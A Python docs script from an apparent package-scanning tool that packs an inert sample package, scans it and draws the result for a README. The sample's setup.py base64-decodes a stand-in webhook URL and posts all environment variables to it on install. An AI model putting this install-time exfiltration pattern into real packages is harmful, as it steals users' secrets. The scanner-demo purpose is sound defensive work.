"""
Draw the picture in the README: what `watchhouse scan` prints for one of our own inert samples.

`python -m docs.pictures.make` runs the scan and writes `docs/pictures/scan.svg`.
"""

import gzip
import io
import re
import tarfile
import tempfile
from pathlib import Path

from rich.console import Console
from rich.text import Text

from watchhouse import bootstrap
from watchhouse.cli import terminal
from watchhouse.cli.report import Report

PICTURE = Path(__file__).parent / "scan.svg"
NAME = "colours-helper"
VERSION = "1.0.2"
FILE = f"{NAME}-{VERSION}.tar.gz"
WIDTH = 96

SETUP = """\
import base64
import os

import requests
from setuptools import setup

hook = base64.b64decode("aHR0cHM6Ly9kaXNjb3JkLmNvbS5leGFtcGxlL2FwaS93ZWJob29rcy8xL2luZXJ0").decode()
requests.post(hook, json=dict(os.environ))

setup(name="colours-helper", version="1.0.2")
"""
"""Inert: the service is imitated, and its host does not exist."""

METADATA = f"Metadata-Version: 2.1\nName: {NAME}\nVersion: {VERSION}\nSummary: Colours for the terminal\n"


def main() -> None:
    """Scan the sample and draw what a terminal shows."""
    with tempfile.TemporaryDirectory() as folder:
        sample = Path(folder) / FILE
        _write(sample)
        report = _scan(sample)
    console = Console(
        record=True,
        width=WIDTH,
        file=io.StringIO(),
        force_terminal=True,
        highlight=False,
        markup=False,
        emoji=False,
    )
    console.print(Text.assemble(("$ ", "green"), f"watchhouse scan {FILE}\n"))
    terminal.show(report, console)
    console.print()  # the picture cuts the last line at its foot
    # No font from elsewhere: a page that shows the picture asks nobody for it.
    drawn = re.sub(r"@font-face \{.*?\}\s*", "", console.export_svg(title="watchhouse"), flags=re.DOTALL)
    PICTURE.write_text(re.sub(r"terminal-\d+", "terminal", drawn), "utf-8")


def _write(sample: Path) -> None:
    # Without a time in it, so that the picture's SHA-256 stays the same.
    with gzip.GzipFile(sample, "wb", mtime=0) as packed, tarfile.open(fileobj=packed, mode="w") as archive:
        for name, text in (("setup.py", SETUP), ("PKG-INFO", METADATA)):
            entry = tarfile.TarInfo(f"{NAME}-{VERSION}/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))


def _scan(sample: Path) -> Report:
    with bootstrap.open_scanner(bootstrap.Settings()) as scanner:
        requests = scanner.expand((str(sample),))
        return Report(outcomes=tuple(outcome for _, outcome in scanner.scan(requests)))


if __name__ == "__main__":
    main()
